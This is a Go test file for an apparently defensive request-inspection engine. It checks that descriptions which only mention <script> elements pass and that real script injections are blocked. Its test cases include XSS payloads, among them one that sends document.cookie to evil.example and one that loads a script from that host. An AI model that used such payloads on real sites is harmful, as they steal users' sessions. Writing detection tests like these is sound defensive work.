package inspect

import (
	"net/http"
	"net/url"
	"strings"
	"testing"
)

// A script element named in a sentence of a description cannot run: its
// text starts with two words, which no JavaScript parses. Scripts whose
// text may parse, that load a source, or whose text lost code to the
// prose view still block.
func TestTextScript(t *testing.T) {
	e := newTestEngine(t)
	form := http.Header{"Content-Type": {"application/x-www-form-urlencoded"}}
	for _, c := range []struct {
		description string
		block       bool
	}{
		{"The following <script> element includes an integrity attribute containing three values, one calculated using SHA-256.", false},
		{"A <script type=\"speculationrules\"> element must contain a valid JSON structure that defines speculation rules.", false},
		{"You've now got your function definition written into your <script> element just fine, but it will do nothing.", false},
		{"The <script> element holds code </script> and the page goes on with more words.", false},
		{"Nice article, thanks for writing it <script>alert(1)</script> and more words", true},
		{"Nice article, thanks for writing it <script>document.location='//evil.example/'+document.cookie</script>", true},
		{"A line break ends a statement: <script>element\nalert(1)</script> so this one runs.", true},
		{"A keyword takes a name: <script>new deleteAccount</script> calls a function of the page.", true},
		{"An operator joins two names: <script>name in window;alert(1)</script> runs the call.", true},
		{"A source loads whatever it says: <script src=//evil.example/x.js> element loads a script.", true},
		{"The <script> element holds code </script><script>alert(1)</script> and the page goes on.", true},
		{"A closing tag alone breaks out of the page's script </script> and words follow it here.", true},
		{"The <script> element `x` includes code removed as a code span, so its text is unknown.", true},
		{"The <script>element&#10;alert(1)</script> has a line break once decoded, which ends a statement.", true},
	} {
		r := &Request{Method: "POST", URI: "/posts", Header: form, Body: []byte(url.Values{"description": {c.description}}.Encode())}
		if v := e.Inspect(r); (v.Action == Block) != c.block {
			t.Errorf("description %q: %v, want blocked=%v", c.description, v, c.block)
		}
	}
}

// FuzzUnparsableScript checks what unparsableScript promises on any text:
// an inert element opens with <script, ends within the value, and starts
// its text with a name; without verbatim prose nothing is inert.
func FuzzUnparsableScript(f *testing.F) {
	for _, s := range []string{
		"the <script> element includes", "<script type=module> a b</script>x", "<script>a\nb", "< script >new x",
		"<script src=x> a b", "<script>", "<script >  a  in b", "<script title='a b'> c d </script",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, low string) {
		i := strings.Index(low, "<")
		if i < 0 {
			return
		}
		if _, ok := unparsableScript(&input{}, low, i); ok {
			t.Fatalf("%q: inert without verbatim prose", low)
		}
		end, ok := unparsableScript(&input{verbatim: true}, low, i)
		if !ok {
			return
		}
		gt := strings.IndexByte(low[i:], '>')
		text := strings.TrimLeft(low[i+gt+1:], " \t\r\n")
		if end <= i || end > len(low) || !strings.HasPrefix(strings.TrimLeft(low[i+1:], " \t"), "script") || text == "" || text[0] < 'a' || text[0] > 'z' {
			t.Fatalf("%q: inert, ending at %d", low, end)
		}
	})
}
